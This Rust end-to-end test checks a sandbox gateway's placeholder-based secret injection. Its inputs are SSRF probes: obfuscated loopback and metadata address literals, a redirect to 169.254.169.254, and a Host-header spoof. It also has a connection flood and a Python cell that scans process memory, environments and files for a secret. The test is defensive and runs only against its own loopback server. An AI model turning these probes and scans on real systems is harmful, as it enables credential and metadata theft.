//! Secrets by placeholder (docs/egress.md): a cell's HTTPS request to a host a tenant's secret is
//! bound to reaches the test server with the value in its header, while nothing in the sandbox
//! (environment, /proc, files, the kernel's memory, the transcript) and nothing in the gateway's
//! log ever holds the value; an echoing server does not hand it back; another tenant's requests
//! never get it; SSRF attempts and budgets are refused; every connection is audited.
//!
//! The only servers are the test's own on loopback, reached through the gateway's test-only
//! resolver, address override and CA (`egress.test_hosts`, `egress.test_ca_file`: loopback
//! deployments only).

use std::sync::{Arc, Mutex};
use std::time::Duration;

use rustls::pki_types::pem::PemObject as _;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::mcp_client::{Client, Era};
use crate::support;

/// What the HTTPS test server saw: each request's head, as received.
pub(crate) type Seen = Arc<Mutex<Vec<String>>>;

/// An HTTPS server on loopback with a certificate for `names` from `pki`. `/echo` answers with
/// the request's head in its body (chunked in 7-byte pieces with `?chunked`); `/redirect`
/// answers 302 to the cloud metadata address; `/gzip` claims a gzip body; anything else `ok`.
pub(crate) async fn https_server(
    pki: &sandgate_node::test_pki::Pki,
    names: &[&str],
) -> (u16, Seen) {
    let (cert, key) = pki.leaf_pem_for(names);
    let certs = rustls::pki_types::CertificateDer::pem_slice_iter(cert.as_bytes())
        .collect::<Result<Vec<_>, _>>()
        .unwrap();
    let key = rustls::pki_types::PrivateKeyDer::from_pem_slice(key.as_bytes()).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(certs, key)
    .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen: Seen = Arc::default();
    let record = seen.clone();
    tokio::spawn(async move {
        while let Ok((sock, _)) = listener.accept().await {
            let (acceptor, record) = (acceptor.clone(), record.clone());
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(sock).await else {
                    return;
                };
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match tls.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                record.lock().unwrap().push(head.clone());
                let target = head.split(' ').nth(1).unwrap_or("/").to_owned();
                let answer = if target.starts_with("/echo") {
                    if target.contains("chunked") {
                        let mut out = String::from(
                            "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
                        );
                        for piece in head.as_bytes().chunks(7) {
                            out.push_str(&format!("{:x}\r\n", piece.len()));
                            out.push_str(&String::from_utf8_lossy(piece));
                            out.push_str("\r\n");
                        }
                        out.push_str("0\r\n\r\n");
                        out
                    } else {
                        // The head back in the body, and the authorization in a header too.
                        let auth = head
                            .lines()
                            .find_map(|l| {
                                l.strip_prefix("authorization: ")
                                    .or_else(|| l.strip_prefix("Authorization: "))
                            })
                            .unwrap_or("")
                            .to_owned();
                        format!(
                            "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nX-Echo-Authorization: {auth}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{head}",
                            head.len()
                        )
                    }
                } else if target.starts_with("/reason") {
                    // The request's authorization in the status line's reason phrase.
                    let auth = head
                        .lines()
                        .find_map(|l| {
                            l.strip_prefix("authorization: ")
                                .or_else(|| l.strip_prefix("Authorization: "))
                        })
                        .unwrap_or("")
                        .to_owned();
                    format!(
                        "HTTP/1.1 401 Bad token {auth}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    )
                } else if target.starts_with("/redirect") {
                    "HTTP/1.1 302 Found\r\nLocation: https://169.254.169.254/latest/meta-data/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_owned()
                } else if target.starts_with("/gzip") {
                    "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\nConnection: close\r\n\r\nzzzz".to_owned()
                } else {
                    "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok".to_owned()
                };
                let _ = tls.write_all(answer.as_bytes()).await;
                let _ = tls.shutdown().await;
            });
        }
    });
    (port, seen)
}

/// A cell: `requests.get(url, headers=…)` through the proxy the environment names, printing
/// `STATUS <code>`, the echo header and `BODY <text>`, or `ERROR <type> <text>`.
pub(crate) fn get_cell(url: &str, headers: &str, verify: &str) -> String {
    format!(
        "import os, requests\n\
         tok = os.environ.get('SHOP_TOKEN', '')\n\
         try:\n    r = requests.get('{url}', headers={headers}, timeout=60, verify={verify})\n    \
         print('STATUS', r.status_code)\n    print('ECHO', r.headers.get('x-echo-authorization'))\n    print('BODY', r.text)\n\
         except Exception as err:\n    print('ERROR', type(err).__name__, err)\n"
    )
}

/// A cell that looks for the secret without ever holding it: every occurrence of its public
/// prefix in the kernel's memory, every process's environment and command line, and every file
/// under /home/user and /tmp is hashed with the bytes after it and compared with the value's
/// hash. Prints `FOUND <where>` for each hit, then `SEARCHED <regions> <files>`.
pub(crate) fn search_cell(prefix: &str, len: usize, sha256: &str) -> String {
    format!(
        r#"import hashlib, os, re
P, N, H = {prefix:?}.encode(), {len}, {sha256:?}
def hits(data):
    i = data.find(P)
    while i != -1:
        if hashlib.sha256(data[i:i + N]).hexdigest() == H:
            return True
        i = data.find(P, i + 1)
    return False
found, regions, files = [], 0, 0
with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
    for line in maps:
        m = re.match(r'([0-9a-f]+)-([0-9a-f]+) (\S+)', line)
        start, end, perms = int(m.group(1), 16), int(m.group(2), 16), m.group(3)
        if 'r' not in perms or end - start > 1 << 31 or '[vvar' in line or '[vsyscall' in line:
            continue
        # In pieces of 16 MiB that overlap by N bytes: the search must not need the memory twice.
        at, tail, read = start, b'', False
        while at < end:
            size = min(1 << 24, end - at)
            try:
                mem.seek(at)
                data = tail + mem.read(size)
            except (OSError, ValueError, OverflowError):
                break
            read = True
            if hits(data):
                found.append('kernel memory ' + line.strip())
                break
            tail, at = data[-N:], at + size
        regions += read
for pid in os.listdir('/proc'):
    if pid.isdigit():
        for what in ('environ', 'cmdline'):
            try:
                with open(f'/proc/{{pid}}/{{what}}', 'rb') as f:
                    if hits(f.read()):
                        found.append(f'/proc/{{pid}}/{{what}}')
            except OSError:
                pass
for root in ('/home/user', '/tmp'):
    for d, _, names in os.walk(root):
        for name in names:
            path = os.path.join(d, name)
            try:
                with open(path, 'rb') as f:
                    files += 1
                    if hits(f.read()):
                        found.append(path)
            except OSError:
                pass
for place in found:
    print('FOUND', place)
print('SEARCHED', regions, files)
"#
    )
}

pub(crate) fn sha256_hex(data: &[u8]) -> String {
    use sha2::Digest as _;
    sha2::Sha256::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

pub(crate) async fn sandbox_of(client: &Client, conversation: &str) -> String {
    client
        .ok("create_sandbox", json!({"conversation_id": conversation}))
        .await
        .structured["sandbox_id"]
        .as_str()
        .unwrap()
        .to_owned()
}

pub(crate) async fn run(client: &Client, sandbox: &str, code: &str) -> String {
    let out = client
        .ok(
            "execute_code",
            json!({"sandbox_id": sandbox, "code": code, "timeout_seconds": 180}),
        )
        .await;
    let stdout = out.structured["stdout"].as_str().unwrap_or_default();
    let stderr = out.structured["stderr"].as_str().unwrap_or_default();
    format!("{stdout}{stderr}").trim().to_owned()
}

#[tokio::test]
async fn a_secret_reaches_the_server_in_its_header_and_never_the_sandbox() {
    let pki = sandgate_node::test_pki::Pki::new("sandgate e2e egress test CA");
    let (port, seen) = https_server(
        &pki,
        &[
            "shop.sandgate.test",
            "evil.sandgate.test",
            "bytes.sandgate.test",
        ],
    )
    .await;
    let dir = std::env::temp_dir().join(format!("sandgate-egress-{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(&dir).unwrap();
    let ca_file = dir.join("test-ca.pem");
    std::fs::write(&ca_file, pki.ca_pem()).unwrap();
    let log = dir.join("gateway.log");
    let server = format!("127.0.0.1:{port}");
    // Names of the test server, and names that resolve where egress must never go.
    let hosts = format!(
        "shop.sandgate.test={server},evil.sandgate.test={server},bytes.sandgate.test={server},\
         private.sandgate.test=10.1.2.3,meta.sandgate.test=169.254.169.254,\
         rebind.sandgate.test={server},rebind.sandgate.test=192.168.7.7"
    );
    let database = support::fresh_database().await;
    let gateway = support::Gateway::start_logged(
        &database,
        &[
            ("SANDGATE_EGRESS__TEST_HOSTS", &hosts),
            ("SANDGATE_EGRESS__TEST_CA_FILE", ca_file.to_str().unwrap()),
        ],
        &log,
    )
    .await;
    let acme = gateway.create_tenant().await;
    let other = gateway.create_tenant().await;
    for tenant in [&acme, &other] {
        for name in ["shop", "evil", "private", "meta", "rebind"] {
            let rule = format!("{name}.sandgate.test:{port}");
            gateway
                .cli(&["admin", "tenant", "egress", tenant, "--allow", &rule])
                .await;
        }
    }
    let bytes_rule = format!("bytes.sandgate.test:{port}");
    gateway
        .cli(&[
            "admin",
            "tenant",
            "egress",
            &acme,
            "--allow",
            &bytes_rule,
            "--bytes-per-day",
            "600",
        ])
        .await;
    // The value: a public prefix and 32 random hex digits the sandbox never sees.
    let value = format!("shpat_{}", uuid::Uuid::new_v4().simple());
    gateway
        .cli_stdin(
            &[
                "admin",
                "tenant",
                "secret",
                "set",
                &acme,
                "SHOP_TOKEN",
                "--host",
                "shop.sandgate.test",
                "--header",
                "authorization",
            ],
            &value,
        )
        .await;
    // The other tenant has a secret of the same name, bound to the same host, of its own.
    let their_value = format!("theirs_{}", uuid::Uuid::new_v4().simple());
    gateway
        .cli_stdin(
            &[
                "admin",
                "tenant",
                "secret",
                "set",
                &other,
                "SHOP_TOKEN",
                "--host",
                "shop.sandgate.test",
                "--header",
                "authorization",
            ],
            &their_value,
        )
        .await;

    let client = Client::connect(
        &gateway.mcp_url(),
        &gateway.token(&acme).await,
        Era::Stateless,
    )
    .await
    .expect("client connects");
    let sandbox = sandbox_of(&client, "secrets-1").await;

    // The sandbox holds a placeholder, and the CA bundle variables name a bundle with its CA.
    let env = run(
        &client,
        &sandbox,
        "import os\nprint(os.environ['SHOP_TOKEN'])\nprint(os.environ['SSL_CERT_FILE'] == os.environ['REQUESTS_CA_BUNDLE'])",
    )
    .await;
    let placeholder = env.lines().next().unwrap_or_default().to_owned();
    assert!(
        placeholder.starts_with("sgp_") && !placeholder.contains(&value) && env.ends_with("True"),
        "the sandbox gets a placeholder and the bundle: {env}"
    );

    // The request: the server gets the value in the bound header only; the sandbox gets the
    // echo back with the placeholder where the value was (body and header).
    let url = format!("https://shop.sandgate.test:{port}/echo");
    let got = run(
        &client,
        &sandbox,
        &get_cell(
            &url,
            "{'Authorization': 'Bearer ' + tok, 'X-Not-Bound': tok}",
            "True",
        ),
    )
    .await;
    let heads = seen.lock().unwrap().clone();
    let head = heads.last().cloned().unwrap_or_default().to_lowercase();
    assert!(
        head.contains(&format!("authorization: bearer {}", value.to_lowercase())),
        "the server got the value in the bound header: {head} (the cell: {got})"
    );
    assert!(
        head.contains(&format!("x-not-bound: {placeholder}")),
        "a header the secret is not bound to keeps the placeholder: {head}"
    );
    assert!(
        got.starts_with("STATUS 200") && got.contains(&format!("ECHO Bearer {placeholder}")),
        "the echo comes back with the placeholder: {got}"
    );
    assert!(
        !got.contains(&value),
        "the echo never hands the value back: {got}"
    );
    // Chunked in 7-byte pieces: the redaction holds across chunk boundaries.
    let chunked = run(
        &client,
        &sandbox,
        &get_cell(
            &format!("{url}?chunked"),
            "{'Authorization': 'Bearer ' + tok}",
            "True",
        ),
    )
    .await;
    assert!(
        chunked.starts_with("STATUS 200")
            && chunked.contains(&format!("Bearer {placeholder}"))
            && !chunked.contains(&value),
        "a chunked echo is redacted too: {chunked}"
    );
    // A compressed answer to a request with the secret is refused (it could hide the value).
    let gzip = run(
        &client,
        &sandbox,
        &get_cell(
            &format!("https://shop.sandgate.test:{port}/gzip"),
            "{'Authorization': 'Bearer ' + tok}",
            "True",
        ),
    )
    .await;
    assert!(
        gzip.starts_with("STATUS 502") && gzip.contains("compressed"),
        "a compressed answer is refused: {gzip}"
    );
    // A server that puts the value into its status line: the reason phrase is not sent on.
    let reason = run(
        &client,
        &sandbox,
        &format!(
            "import os, requests\nr = requests.get('https://shop.sandgate.test:{port}/reason', headers={{'Authorization': 'Bearer ' + os.environ['SHOP_TOKEN']}}, timeout=60)\nprint('STATUS', r.status_code, r.reason)\n"
        ),
    )
    .await;
    assert!(
        reason.starts_with("STATUS 401") && !reason.contains(&value),
        "a reason phrase never hands the value back: {reason}"
    );
    // A header of many placeholders is refused before any value is filled in.
    let many = run(
        &client,
        &sandbox,
        &get_cell(&url, "{'Authorization': ' '.join([tok] * 600)}", "True"),
    )
    .await;
    assert!(
        many.starts_with("STATUS 431") && many.contains("at most 16384"),
        "a header of many placeholders is refused: {many}"
    );
    // A Host that is not the CONNECT target gets no secret: 421, and nothing reaches the server.
    let before = seen.lock().unwrap().len();
    let misdirected = run(
        &client,
        &sandbox,
        &get_cell(
            &url,
            "{'Authorization': 'Bearer ' + tok, 'Host': 'evil.sandgate.test'}",
            "True",
        ),
    )
    .await;
    assert!(
        misdirected.starts_with("STATUS 421") && misdirected.contains("Host header"),
        "a request naming another host is refused: {misdirected}"
    );
    assert_eq!(
        seen.lock().unwrap().len(),
        before,
        "it never reached the server"
    );
    // A host the secret is not bound to: a plain tunnel, the client's own TLS (the test server's
    // certificate is not the sandbox CA's, so it verifies against the test CA only: verify off).
    let evil = run(
        &client,
        &sandbox,
        &get_cell(
            &format!("https://evil.sandgate.test:{port}/echo"),
            "{'Authorization': 'Bearer ' + tok}",
            "False",
        ),
    )
    .await;
    assert!(evil.starts_with("STATUS 200"), "{evil}");
    let head = seen.lock().unwrap().last().cloned().unwrap_or_default();
    assert!(
        head.contains(&placeholder) && !head.contains(&value),
        "a host the secret is not bound to gets the placeholder only: {head}"
    );

    // SSRF: address literals in every spelling, names resolving to private or metadata
    // addresses, a name with one private answer among good ones, a redirect to metadata.
    let literals = [
        "127.0.0.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "0x7f.1",
    ];
    let code = format!(
        "import http.client\nfor host in {literals:?}:\n    c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=60)\n    c.set_tunnel(host, {port})\n    try:\n        c.request('GET', '/')\n        print('OPEN', host)\n    except OSError as err:\n        print('REFUSED', host, err)\n"
    );
    let out = run(&client, &sandbox, &code).await;
    for literal in literals {
        assert!(
            out.lines().any(|l| l
                .starts_with(&format!("REFUSED {literal} Tunnel connection failed: 403"))
                && l.contains("is an address")),
            "the literal {literal} is refused as an address: {out}"
        );
    }
    for (name, why) in [
        ("private", "10.1.2.3"),
        ("meta", "169.254.169.254"),
        ("rebind", "192.168.7.7"),
    ] {
        let out = run(
            &client,
            &sandbox,
            &get_cell(
                &format!("https://{name}.sandgate.test:{port}/"),
                "{}",
                "False",
            ),
        )
        .await;
        assert!(
            out.starts_with("ERROR ProxyError") && out.contains("403") && out.contains(why),
            "{name}.sandgate.test is refused for {why}: {out}"
        );
    }
    let redirect = run(
        &client,
        &sandbox,
        &get_cell(
            &format!("https://shop.sandgate.test:{port}/redirect"),
            "{'Authorization': 'Bearer ' + tok}",
            "True",
        ),
    )
    .await;
    assert!(
        redirect.starts_with("ERROR ProxyError")
            && redirect.contains("403")
            && redirect.contains("is an address"),
        "a redirect to the metadata address is refused: {redirect}"
    );

    // The bytes-per-day budget: the first connection spends it, the next is refused.
    let bytes_url = format!("https://bytes.sandgate.test:{port}/echo");
    let first = run(&client, &sandbox, &get_cell(&bytes_url, "{}", "False")).await;
    let second = run(&client, &sandbox, &get_cell(&bytes_url, "{}", "False")).await;
    assert!(
        second.starts_with("ERROR ProxyError")
            && second.contains("429")
            && second.contains("bytes per day"),
        "past its byte budget a rule refuses (first: {first}): {second}"
    );

    // A flood of CONNECTs: past the sandbox's rate they are refused 429 without a policy read,
    // and the audit has one row saying so.
    let flood = run(
        &client,
        &sandbox,
        "import http.client\nseen = {}\nfor _ in range(90):\n    c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=60)\n    c.set_tunnel('127.0.0.1', 1)\n    try:\n        c.request('GET', '/')\n    except OSError as err:\n        code = str(err).split(':')[1].split()[0] if ':' in str(err) else '?'\n        seen[code] = seen.get(code, 0) + 1\n        last = str(err)\nprint(sorted(seen.items()), last)\n",
    )
    .await;
    assert!(
        flood.contains("('429',") && flood.contains("more than 120 egress connections"),
        "past its rate a sandbox is refused 429: {flood}"
    );

    // Nothing in the sandbox holds the value: memory, environments, command lines, files.
    let (prefix, len) = ("shpat_", value.len());
    let searched = run(
        &client,
        &sandbox,
        &search_cell(prefix, len, &sha256_hex(value.as_bytes())),
    )
    .await;
    let last = searched.lines().last().unwrap_or_default();
    let counts: Vec<usize> = last
        .strip_prefix("SEARCHED ")
        .map(|rest| rest.split(' ').filter_map(|n| n.parse().ok()).collect())
        .unwrap_or_default();
    assert!(
        !searched.contains("FOUND") && counts.len() == 2 && counts[0] > 10 && counts[1] > 0,
        "the search ran over memory and files and found no value: {searched}"
    );
    // The search can find: the same search for the placeholder finds it in the environment.
    let control = run(
        &client,
        &sandbox,
        &search_cell(
            "sgp_",
            placeholder.len(),
            &sha256_hex(placeholder.as_bytes()),
        ),
    )
    .await;
    assert!(
        control.contains("FOUND kernel memory"),
        "the search finds what is there: {control}"
    );

    // The other tenant: its request with acme's placeholder gets neither value; with its own
    // placeholder its own value.
    let theirs = Client::connect(
        &gateway.mcp_url(),
        &gateway.token(&other).await,
        Era::Stateless,
    )
    .await
    .expect("client connects");
    let their_sandbox = sandbox_of(&theirs, "secrets-2").await;
    let out = run(
        &theirs,
        &their_sandbox,
        &get_cell(
            &url,
            &format!("{{'Authorization': 'Bearer {placeholder}'}}"),
            "True",
        ),
    )
    .await;
    assert!(out.starts_with("STATUS 200"), "{out}");
    let head = seen.lock().unwrap().last().cloned().unwrap_or_default();
    assert!(
        head.contains(&placeholder) && !head.contains(&value) && !head.contains(&their_value),
        "another tenant's placeholder is never filled in: {head}"
    );
    let out = run(
        &theirs,
        &their_sandbox,
        &get_cell(&url, "{'Authorization': 'Bearer ' + tok}", "True"),
    )
    .await;
    let head = seen.lock().unwrap().last().cloned().unwrap_or_default();
    assert!(
        out.starts_with("STATUS 200") && head.contains(&their_value) && !head.contains(&value),
        "its own placeholder gets its own value: {head}"
    );

    // The transcript and the gateway's log never hold the value.
    let transcript = crate::pause_many::transcript(&client, &sandbox, "ipynb").await;
    assert!(
        transcript.contains(&placeholder) && !transcript.contains(&value),
        "the transcript holds the placeholder only"
    );
    // It notes each call's connections after the call: the injection by name, the refusals.
    let html = crate::pause_many::transcript(&client, &sandbox, "html").await;
    let notes: Vec<&str> = html
        .split("<p class=\"mark egress\">")
        .skip(1)
        .map(|rest| rest.split("</p>").next().unwrap_or_default())
        .collect();
    assert!(
        notes
            .iter()
            .any(|n| n.contains("Egress during the call above")
                && n.contains("secrets injected: SHOP_TOKEN")),
        "the transcript notes the intercepted connection: {notes:?} in {}",
        html.find("Egress during")
            .map_or("no note at all", |at| &html
                [at.saturating_sub(200)..(at + 300).min(html.len())])
    );
    assert!(
        notes.iter().any(
            |n| n.contains("Egress during the call above (10 connections)")
                && n.contains("is an address")
        ),
        "and the refused ones, as many as there were: {notes:?}"
    );
    assert!(
        !html.contains(&value),
        "the HTML transcript holds no value either"
    );
    // Counted in /metrics.
    let metrics = reqwest::get(format!("{}/metrics", gateway.base_url))
        .await
        .expect("/metrics answers")
        .text()
        .await
        .unwrap();
    let count = |needle: &str| -> f64 {
        metrics
            .lines()
            .find(|l| l.starts_with(needle))
            .and_then(|l| l.rsplit(' ').next())
            .and_then(|v| v.parse().ok())
            .unwrap_or(0.0)
    };
    assert!(
        count("sandgate_egress_connections_total{outcome=\"ok\",kind=\"intercepted\"}") >= 5.0
            && count("sandgate_egress_connections_total{outcome=\"refused\",kind=\"tunnel\"}")
                >= 13.0
            && count("sandgate_egress_secrets_injected_total") >= 4.0
            && count("sandgate_egress_bytes_total{direction=\"received\"}") > 0.0,
        "egress is counted in /metrics: {}",
        metrics
            .lines()
            .filter(|l| l.contains("egress"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    // Every connection is audited: the injection by name, refusals with their reasons.
    let trail = support::eventually(
        Duration::from_secs(30),
        "egress connections audited",
        || async {
            let trail = gateway.cli(&["admin", "audit", "--tenant", &acme]).await;
            (trail.matches("egress_connect").count() >= 20).then_some(trail)
        },
    )
    .await;
    assert!(
        trail.contains("intercepted, secrets injected: SHOP_TOKEN")
            && trail.contains("10.1.2.3")
            && trail.contains("bytes per day")
            && trail.contains(&format!("0x7f000001:{port} refused"))
            && trail
                .matches("further refusals over the rate this minute")
                .count()
                == 1,
        "{trail}"
    );
    assert!(!trail.contains(&value), "the audit never holds the value");
    let logged = std::fs::read_to_string(&log).unwrap();
    assert!(
        logged.contains("egress connection open")
            && !logged.contains(&value)
            && !logged.contains(&their_value),
        "the gateway's debug log never holds a value ({} bytes searched)",
        logged.len()
    );
    let _ = std::fs::remove_dir_all(&dir);
}
